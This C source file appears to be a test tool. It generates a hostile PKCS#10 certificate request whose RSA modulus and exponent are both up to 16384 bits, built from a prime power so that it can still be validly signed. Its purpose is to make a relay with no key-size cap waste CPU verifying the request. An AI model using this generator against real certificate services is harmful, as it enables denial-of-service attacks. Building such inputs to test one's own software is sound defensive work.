/*
 * hostile mkcsr: a PKCS#10 request whose RSA modulus and public exponent
 * both have BITS bits (issue 12, item 3), validly signed, so that a relay
 * without a cap on request keys does the whole verification (s^e mod n,
 * about 0.5 s for 16384 bits) and issues.  Finding two BITS/2-bit primes
 * would take minutes, so n = p^(BITS/256) for one 256-bit prime p:
 * lambda(n) divides p^(k-1) (p - 1), which gives d.
 */
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <gmp.h>
#include <nettle/base64.h>
#include <nettle/sha2.h>

#include "hostile.h"

#define DER_MAX 16384

/* Appends tag, DER length and body at out; returns the bytes written. */
static size_t
tlv(uint8_t *out, uint8_t tag, const uint8_t *body, size_t len)
{
	size_t h = 0;

	out[h++] = tag;
	if (len < 128)
		out[h++] = (uint8_t)len;
	else if (len < 256) {
		out[h++] = 0x81;
		out[h++] = (uint8_t)len;
	} else {
		out[h++] = 0x82;
		out[h++] = (uint8_t)(len >> 8);
		out[h++] = (uint8_t)len;
	}
	memmove(out + h, body, len);
	return h + len;
}

/* An INTEGER (positive: a leading zero when the top bit is set). */
static size_t
der_mpz(uint8_t *out, const mpz_t v)
{
	uint8_t body[DER_MAX / 4 + 1];
	size_t n;

	body[0] = 0;
	mpz_export(body + 1, &n, 1, 1, 1, 0, v);
	return body[1] & 0x80 ? tlv(out, 0x02, body, n + 1)
			      : tlv(out, 0x02, body + 1, n);
}

/* n = p^(bits/256), e odd of bits - 1 bits, d = 1/e mod p^(k-1) (p-1). */
static void
huge_key(int bits, mpz_t n, mpz_t e, mpz_t d)
{
	gmp_randstate_t rs;
	mpz_t p, l, g;

	gmp_randinit_default(rs);
	gmp_randseed_ui(rs, (unsigned long)time(NULL));
	mpz_inits(p, l, g, NULL);
	mpz_urandomb(p, rs, 240);
	mpz_ui_sub(p, 0, p);
	mpz_setbit(g, 256);
	mpz_add(p, p, g); /* 2^256 - (random < 2^240) */
	mpz_nextprime(p, p);
	mpz_pow_ui(n, p, (unsigned long)bits / 256);
	mpz_pow_ui(l, p, (unsigned long)bits / 256 - 1);
	mpz_sub_ui(g, p, 1);
	mpz_mul(l, l, g);
	do {
		mpz_urandomb(e, rs, (mp_bitcnt_t)bits - 1);
		mpz_setbit(e, (mp_bitcnt_t)bits - 2);
		mpz_setbit(e, 0);
		mpz_gcd(g, e, l);
	} while (mpz_cmp_ui(g, 1) != 0);
	if (mpz_sizeinbase(n, 2) != (size_t)bits || !mpz_invert(d, e, l))
		errx(2, "mkcsr: no %d-bit key", bits);
	mpz_clears(p, l, g, NULL);
	gmp_randclear(rs);
}

/* The CertificationRequestInfo for CN cn and key (n, e). */
static size_t
request_info(uint8_t *out, const char *cn, const mpz_t n, const mpz_t e)
{
	static const uint8_t ver[] = {0x02, 0x01, 0x00};
	static const uint8_t rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48,
	    0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00};
	static const uint8_t oid_cn[] = {0x06, 0x03, 0x55, 0x04, 0x03};
	uint8_t a[DER_MAX], b[DER_MAX];
	size_t la, lb;

	/* subject: SEQUENCE { SET { SEQUENCE { cn OID, UTF8String } } } */
	memcpy(a, oid_cn, sizeof(oid_cn));
	la = sizeof(oid_cn) +
	    tlv(a + sizeof(oid_cn), 0x0c, (const uint8_t *)cn, strlen(cn));
	lb = tlv(b, 0x30, a, la);
	la = tlv(a, 0x31, b, lb);
	lb = tlv(b, 0x30, a, la);
	memcpy(out, ver, sizeof(ver));
	memcpy(out + sizeof(ver), b, lb);
	lb += sizeof(ver);
	/* SPKI: SEQUENCE { rsaEncryption, BIT STRING { SEQUENCE { n, e } } } */
	la = der_mpz(a, n);
	la += der_mpz(a + la, e);
	la = tlv(b + 1, 0x30, a, la);
	b[0] = 0; /* no unused bits */
	memcpy(a, rsa, sizeof(rsa));
	la = sizeof(rsa) + tlv(a + sizeof(rsa), 0x03, b, la + 1);
	lb += tlv(out + lb, 0x30, a, la);
	out[lb++] = 0xa0; /* attributes: [0] empty */
	out[lb++] = 0;
	memcpy(a, out, lb);
	return tlv(out, 0x30, a, lb);
}

/* PKCS#1 v1.5 SHA-256 signature of info, k bytes. */
static void
sign(uint8_t *sig, size_t k, const uint8_t *info, size_t len, const mpz_t n,
    const mpz_t d)
{
	static const uint8_t di[] = {0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60,
	    0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04,
	    0x20};
	struct sha256_ctx h;
	uint8_t *em;
	size_t w;
	mpz_t m;

	if ((em = calloc(1, k)) == NULL)
		err(2, NULL);
	em[1] = 1;
	memset(em + 2, 0xff, k - 3 - sizeof(di) - 32);
	memcpy(em + k - sizeof(di) - 32, di, sizeof(di));
	sha256_init(&h);
	sha256_update(&h, len, info);
	sha256_digest(&h, 32, em + k - 32);
	mpz_init(m);
	mpz_import(m, k, 1, 1, 1, 0, em);
	mpz_powm(m, m, d, n);
	memset(sig, 0, k);
	mpz_export(sig + k - (mpz_sizeinbase(m, 2) + 7) / 8, &w, 1, 1, 1, 0, m);
	mpz_clear(m);
	free(em);
}

static void
write_pem(const char *path, const uint8_t *der, size_t len)
{
	char b64[BASE64_ENCODE_RAW_LENGTH(DER_MAX)];
	size_t n = BASE64_ENCODE_RAW_LENGTH(len), i;
	FILE *fp;

	base64_encode_raw(b64, len, der);
	if ((fp = fopen(path, "w")) == NULL)
		err(2, "%s", path);
	fprintf(fp, "-----BEGIN CERTIFICATE REQUEST-----\n");
	for (i = 0; i < n; i += 64)
		fprintf(fp, "%.*s\n", (int)(n - i < 64 ? n - i : 64), b64 + i);
	fprintf(fp, "-----END CERTIFICATE REQUEST-----\n");
	if (fclose(fp) == EOF)
		err(2, "%s", path);
}

void
make_csr(int bits, const char *cn, const char *out)
{
	static const uint8_t alg[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48,
	    0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00};
	uint8_t info[DER_MAX], body[DER_MAX], der[DER_MAX];
	size_t li, lb, k = (size_t)bits / 8;
	mpz_t n, e, d;

	if (bits < 1024 || bits % 256 != 0 || bits > 16384)
		errx(2, "mkcsr: BITS: a multiple of 256, 1024 to 16384");
	mpz_inits(n, e, d, NULL);
	huge_key(bits, n, e, d);
	li = request_info(info, cn, n, e);
	memcpy(body, info, li);
	memcpy(body + li, alg, sizeof(alg));
	lb = li + sizeof(alg);
	der[0] = 0; /* the signature BIT STRING's unused bits */
	sign(der + 1, k, info, li, n, d);
	lb += tlv(body + lb, 0x03, der, k + 1);
	write_pem(out, der, tlv(der, 0x30, body, lb));
	mpz_clears(n, e, d, NULL);
}
